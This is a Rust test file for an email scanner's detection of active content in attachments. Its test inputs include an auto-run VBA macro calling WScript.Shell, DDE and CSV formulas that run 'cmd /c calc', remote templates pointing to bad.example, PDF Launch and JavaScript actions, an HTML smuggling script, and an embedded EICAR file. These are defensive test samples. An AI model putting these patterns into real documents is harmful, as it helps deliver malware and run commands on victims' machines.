//! What acts when it is opened.

use std::io::Write;

use super::compound::{compound, packed_vba};
use super::{base64, corpus, eicar, files_below, look, mail_with, no_tables, zip_of};
use crate::message::{View, ViewLimits};
use crate::scan::finding::FindingKind;
use crate::scan::{ArchiveLimits, Cut, Examination, Unwanted, cuts, expand, patterns};
use crate::tables::HostFlags;

pub(super) fn seen(raw: &[u8]) -> Examination {
    let mut view = View::build(raw, &ViewLimits::worker());
    expand(&mut view, &ArchiveLimits::default());
    look(&view, &no_tables())
}

pub(super) fn rules(seen: &Examination) -> Vec<&str> {
    let mut rules: Vec<&str> = seen.findings.iter().map(|finding| &*finding.rule).collect();
    rules.sort_unstable();
    rules.dedup();
    rules
}

/// Issue 4: office and PDF documents of the corpus by their labels.
#[test]
fn documents_of_the_corpus_get_the_labels_of_their_names() {
    let Some(folder) = corpus("docs") else { return };
    let mut files = Vec::new();
    files_below(&folder, &mut files);
    let mut wrong = Vec::new();
    for path in files {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let begun = std::time::Instant::now();
        let seen = seen(&mail_with(&name, &std::fs::read(&path).unwrap()));
        let took = begun.elapsed();
        let has = |kind| seen.findings.iter().any(|finding| finding.kind == kind);
        let (encrypted, active) = (has(FindingKind::Encrypted), has(FindingKind::ActiveContent));
        if std::env::var_os("SEKISHO_SHOW").is_some() {
            eprintln!("{took:?} {} {:?}", path.display(), rules(&seen));
        }
        let low = name.to_lowercase();
        // Protected against editing alone, its text is there for everybody; and a document whose header has
        // a field, which its makers call a macro.
        if low.ends_with("protected_sample.docx") || low.ends_with("headerwithmacros.doc") {
            continue;
        }
        let folder = path.to_string_lossy().contains("oletools-encrypted");
        // A name that says the password opens it.
        let closed = encrypted || rules(&seen).contains(&"SCAN_OPENED");
        if (folder || low.contains("password") || low.contains("protected")) && !closed {
            wrong.push(format!("{name}: not encrypted {:?}", rules(&seen)));
        }
        let acts = low.contains("macro") || low.starts_with("dde-");
        if acts && !encrypted && !active {
            wrong.push(format!("{name}: not active {:?}", rules(&seen)));
        }
        if low.starts_with("harmless-clean") && (encrypted || active) {
            wrong.push(format!("{name}: not clean {:?}", rules(&seen)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[track_caller]
pub(super) fn acts(name: &str, octets: &[u8], expected: &[&str]) {
    let seen = seen(&mail_with(name, octets));
    let acting = seen.findings.iter().filter(|found| found.kind == FindingKind::ActiveContent);
    let mut rules: Vec<&str> = acting.map(|found| &*found.rule).collect();
    rules.sort_unstable();
    rules.dedup();
    assert_eq!(rules, expected, "{name} {:?}", seen.findings);
    assert_eq!(seen.facts.attachments[0].active, !expected.is_empty(), "{name}");
}

#[test]
fn tm_09_macros_are_named_by_what_they_do_and_a_broken_project_hides_none() {
    let quiet = packed_vba("Attribute VB_Name = \"A\"\r\nSub Sum()\r\nEnd Sub\r\n");
    let loud = packed_vba(
        "Attribute VB_Name = \"A\"\r\nSub Document_Open()\r\nCreateObject(\"WScript.Shell\").Run \"x\"\r\nEnd Sub\r\n",
    );
    acts("a.doc", &compound(&[("WordDocument", b"x"), ("Module1", &quiet)]), &["ACTIVE_VBA"]);
    let all = ["ACTIVE_VBA", "ACTIVE_VBA_AUTORUN", "ACTIVE_VBA_DANGEROUS"];
    let whole = compound(&[("WordDocument", b"x"), ("Module1", &loud)]);
    acts("a.doc", &whole, &all);
    let sums = |octets: &[u8]| -> i32 {
        seen(&mail_with("a.doc", octets)).findings.iter().map(|found| found.points).sum()
    };
    assert_eq!(sums(&compound(&[("Module1", &quiet)])), 0, "harmless macros weigh nothing");
    assert!((3_000..5_000).contains(&sums(&whole)), "{}", sums(&whole));
    // No directory, no table, a directory that leads nowhere.
    let mut cut = whole.clone();
    cut[48..52].fill(0xFF);
    acts("a.doc", &cut, &all);
    let mut orphan = whole.clone();
    let root = memchr::memmem::find(&orphan, b"R\0o\0o\0t\0").unwrap();
    orphan[root + 76..root + 80].fill(0xFF);
    acts("a.doc", &orphan, &all);
    // In a document of today.
    let zip = zip_of(&[("[Content_Types].xml", b"<Types/>"), ("word/vbaProject.bin", &whole)]);
    acts("a.docm", &zip, &all);
    acts(
        "a.bas",
        b"Attribute VB_Name = \"A\"\r\nSub Auto_Open()\r\n",
        &["ACTIVE_VBA", "ACTIVE_VBA_AUTORUN"],
    );
    acts("a.doc", &compound(&[("WordDocument", b"x")]), &[]);
}

#[test]
fn tm_09_fields_links_and_templates_of_documents() {
    let docx = |name: &str, xml: &str| {
        zip_of(&[("[Content_Types].xml", b"<Types/>"), (name, xml.as_bytes())])
    };
    let field = |runs: &str| {
        let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
        format!("<?xml version=\"1.0\"?><w:p>{}{runs}{}</w:p>", mark("begin"), mark("end"))
    };
    let text = |part: &str| format!("<w:instrText xml:space=\"preserve\">{part}</w:instrText>");
    for (xml, expected) in [
        (
            field(&[text(" DD"), text("EAU"), text("TO c:\\\\x &quot;/c calc&quot;")].concat()),
            &["ACTIVE_DDE"][..],
        ),
        (field(&text("QUOTE 68 68 69 65 85 84 79 32 99 109 100")), &["ACTIVE_DDE"]),
        ("<w:fldSimple w:instr='DDE cmd x'/>".to_owned(), &["ACTIVE_DDE"]),
        (field(&text(" DATE \\@ yyyy ")), &[]),
        (field(&text(" PAGE ")), &[]),
    ] {
        acts("a.docx", &docx("word/document.xml", &xml), expected);
    }
    let relationship = |kind: &str, target: &str| {
        format!(
            "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/x/{kind}\" \
             Target='{target}' TargetMode=\"External\"/></Relationships>"
        )
    };
    for (kind, target, expected) in [
        ("attachedTemplate", "http://bad.example/x.dotm", &["ACTIVE_REMOTE_TEMPLATE"][..]),
        ("attachedTemplate", "&#x68;ttps://bad.example/x", &["ACTIVE_REMOTE_TEMPLATE"]),
        ("attachedTemplate", "\\\\host\\share\\x.dotm", &["ACTIVE_REMOTE_TEMPLATE"]),
        ("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm", &[]),
        ("oleObject", "mhtml:http://bad.example/x!y", &["ACTIVE_REMOTE_OBJECT"]),
        ("frame", "http://bad.example/", &["ACTIVE_REMOTE_OBJECT"]),
        ("hyperlink", "https://www.example.com/", &[]),
    ] {
        let xml = relationship(kind, target);
        acts("a.docx", &docx("word/_rels/settings.xml.rels", &xml), expected);
    }
    acts(
        "a.xlsx",
        &docx(
            "xl/externalLinks/externalLink1.xml",
            "<x><ddeLink ddeService='cmd' ddeTopic='/c calc'/></x>",
        ),
        &["ACTIVE_DDE"],
    );
    acts("a.xlsm", &docx("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>"), &["ACTIVE_XLM"]);
    acts("a.csv", b"name,sum\r\n=cmd|' /C calc'!A0,2\r\n", &["ACTIVE_DDE"]);
    acts("a.csv", b"name|sum!\r\na|b,=A1+B1,-2|3\r\n", &[]);
    acts(
        "a.slk",
        b"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;EEXEC(\"calc\")\r\n",
        &["ACTIVE_XLM", "ACTIVE_XLM_AUTORUN"],
    );
}

#[test]
fn tm_09_rich_text_hides_nothing_between_its_digits() {
    let hex = |octets: &[u8]| octets.iter().map(|octet| format!("{octet:02x}")).collect::<String>();
    let string = |text: &str| {
        let mut out = (text.len() as u32 + 1).to_le_bytes().to_vec();
        out.extend(text.as_bytes());
        out.push(0);
        out
    };
    let eicar = eicar();
    let mut native = [&[2, 0][..], b"e.com\0C:\\e.com\0", &[0, 0, 3, 0]].concat();
    native.extend(string("C:\\e.com"));
    native.extend((eicar.len() as u32).to_le_bytes());
    native.extend(&eicar);
    let mut object = [1, 5, 0, 0, 2, 0, 0, 0].to_vec();
    object.extend(string("Package"));
    object.extend([0; 8]);
    object.extend((native.len() as u32).to_le_bytes());
    object.extend(&native);
    let plain = hex(&object);
    let (one, two) = plain.split_at(101);
    let hidden = format!("{one}\r\n{{\\*\\nothing 616263}}{{\\object}}\\par {two}");
    for digits in [&plain, &hidden] {
        let rtf = format!(
            "{{\\rt\\object\\objemb\\objupdate{{\\*\\objclass Package}}{{\\*\\objdata {digits}}}}}"
        );
        acts(
            "a.doc",
            rtf.as_bytes(),
            &["ACTIVE_EMBEDDED", "ACTIVE_EMBEDDED_PROGRAM", "ACTIVE_RTF_UPDATE"],
        );
        let kinds = super::kinds_of(&mail_with("a.doc", rtf.as_bytes()));
        assert!(kinds.contains(&FindingKind::Malware), "{kinds:?}");
    }
    acts("a.rtf", b"{\\rtf1{\\*\\template http://bad.example/x}}", &["ACTIVE_REMOTE_TEMPLATE"]);
    acts("a.rtf", b"{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\x \"y\"}}}}", &["ACTIVE_DDE"]);
    acts("a.rtf", b"{\\rtf1 hello \\b world}", &[]);
}

#[test]
fn tm_09_names_of_pdf_act_whatever_is_around_them() {
    for (body, expected) in [
        ("<< /S /J#61vaScript /JS (x) >>", &["ACTIVE_PDF_JAVASCRIPT"][..]),
        ("<</Type/Action/S/Launch/F(cmd.exe)>>", &["ACTIVE_PDF_LAUNCH"]),
        (
            "<</OpenAction 7 0 R>> 7 0 obj <</S /URI /URI (http://bad.example/)>> endobj",
            &["ACTIVE_PDF_ACTION"],
        ),
        ("<</OpenAction [3 0 R /Fit]>> <</S /URI /URI (http://bad.example/)>>", &[]),
        ("<</Type/Filespec/EF<</F 1 0 R>>>> /EmbeddedFiles", &["ACTIVE_PDF_EMBEDDED"]),
        ("/JSX /JS1 text", &[]),
    ] {
        let pdf = format!("%PDF-1.7\n1 0 obj {body} endobj\ntrailer");
        acts("a.pdf", pdf.as_bytes(), expected);
    }
    let mut chance = b"%PDF-1.7\nstream\n".to_vec();
    chance.extend((0..2000_u32).map(|number| (number * 37 % 251) as u8 | 0x80));
    chance.extend(b"/JS (\x80\x81 endstream");
    acts("a.pdf", &chance, &[]);
    let objects = b"1 0 2 30 << /S /JavaScript /JS 5 0 R >>";
    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
    zlib.write_all(objects).unwrap();
    let folded =
        [b"%PDF-1.7\n<</Type/ObjStm>> stream\n", &zlib.finish().unwrap()[..], b"\nendstream"]
            .concat();
    acts("a.pdf", &folded, &["ACTIVE_PDF_JAVASCRIPT"]);
}

#[test]
fn links_inside_documents_are_looked_up_as_those_of_the_text_are() {
    let pdf = b"%PDF-1.7\n<</S /URI /URI (http://pdf.example/x)>>".to_vec();
    let rels = b"<Relationships><Relationship Type=\"x/hyperlink\" Target=\"http://office.example/\" TargetMode=\"External\"/></Relationships>";
    let docx =
        zip_of(&[("[Content_Types].xml", b"<Types/>"), ("word/_rels/document.xml.rels", rels)]);
    let url = b"[InternetShortcut]\r\nURL=http://shortcut.example/\r\n".to_vec();
    for (name, octets, host) in [
        ("a.pdf", pdf, "pdf.example"),
        ("a.docx", docx, "office.example"),
        ("a.url", url, "shortcut.example"),
    ] {
        let raw = mail_with(name, &octets);
        let mut view = View::build(&raw, &ViewLimits::worker());
        expand(&mut view, &ArchiveLimits::default());
        let bad = |asked: &str| HostFlags { bad: asked == host, ..HostFlags::default() };
        let tables = crate::scan::ScanTables { url_host: Some(&bad), ..no_tables() };
        let seen = look(&view, &tables);
        assert!(rules(&seen).contains(&"URL_BAD_HOST"), "{name}: {:?}", seen.facts.url_hosts);
    }
}

#[test]
fn pages_that_make_files_are_told_from_pages_with_scripts() {
    let page = |script: &str| format!("<html><body><script>{script}</script></body></html>");
    let make = "var b=new Blob([atob('TVqQ')]);";
    for (script, expected) in [
        (
            format!("{make}a.href=URL.createObjectURL(b);a.download='x.iso';a.click();"),
            &["ACTIVE_HTML_SCRIPT", "ACTIVE_HTML_SMUGGLING"][..],
        ),
        (
            format!("{make}navigator.msSaveOrOpenBlob(b,'x.zip')"),
            &["ACTIVE_HTML_SCRIPT", "ACTIVE_HTML_SMUGGLING"],
        ),
        (
            "eval(atob('YWxlcnQoMSk='))".to_owned(),
            &["ACTIVE_HTML_OBFUSCATED", "ACTIVE_HTML_SCRIPT"],
        ),
        ("alert(1)".to_owned(), &["ACTIVE_HTML_SCRIPT"]),
    ] {
        acts("a.html", page(&script).as_bytes(), expected);
    }
    acts(
        "a.html",
        b"<html><a download href='data:application/zip;base64,UEs='>x</a></html>",
        &["ACTIVE_HTML_SMUGGLING"],
    );
    acts("a.html", b"<html><p>hello</p></html>", &[]);
    acts(
        "a.svg",
        b"<?xml version='1.0'?><svg xmlns='x'><script>x</script></svg>",
        &["ACTIVE_SVG_SCRIPT"],
    );
    acts("a.svg", b"<svg xmlns='x'><rect/></svg>", &[]);
    acts("a.lnk", b"\x4C\0\0\0\x01\x14\x02\0rest", &["ACTIVE_SHORTCUT"]);
    acts(
        "a.txt",
        b"<?xml version='1.0'?>\r\n<job id='x'><script language='VBScript'>",
        &["ACTIVE_SCRIPT"],
    );
    // The text of the mail itself is no attachment: no client runs its scripts.
    let raw = b"Content-Type: text/html\r\n\r\n<html><script>alert(1)</script></html>";
    assert!(seen(raw).active().is_none());
}

#[test]
fn one_finding_says_that_a_name_and_its_octets_differ() {
    for (name, octets, expected) in [
        ("a.pdf", &b"Rar!\x1a\x07\0"[..], true),
        ("a.png", b"%PDF-1.7", true),
        ("a.docx", b"7z\xbc\xaf\x27\x1c", true),
        ("a.txt", b"{\\rtf1}", true),
        ("a.doc", b"{\\rtf1}", false),
        ("a.xls", b"<html><table>", false),
        ("a.txt", b"a,b,c", false),
        ("a.dat", b"%PDF-1.7", false),
        ("a.jpg", b"\xFF\xD8\xFF\xE0", false),
    ] {
        let seen = seen(&mail_with(name, octets));
        assert_eq!(
            rules(&seen).contains(&"ATTACH_TYPE_MISMATCH"),
            expected,
            "{name} {:?}",
            seen.findings
        );
    }
}

fn active_cuts(raw: &[u8]) -> Vec<Cut> {
    let limits = (&ViewLimits::worker(), &ArchiveLimits::default());
    let (mut scratch, tables) = (patterns::Scratch::default(), no_tables());
    let found = cuts(raw, Unwanted::Active, limits, &tables, &mut scratch);
    futures_lite::future::block_on(found).unwrap()
}

#[test]
fn what_acts_can_be_cut_out_and_the_rest_stays() {
    let document = compound(&[("Module1", &packed_vba("Attribute VB_Name = \"A\"\r\n"))]);
    let raw = mail_with("a.doc", &zip_of(&[("a.doc", &document)]));
    let found = active_cuts(&raw);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].active && &*found[0].virus == "ACTIVE_VBA" && &*found[0].name == "a.doc");
    assert!(active_cuts(&mail_with("a.txt", b"text")).is_empty());
    // The only body of a mail cannot be taken out.
    let mut only = b"Content-Type: application/msword; name=a.doc\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
    only.extend(base64(&document));
    assert!(seen(&only).active().is_some() && active_cuts(&only).is_empty());
}
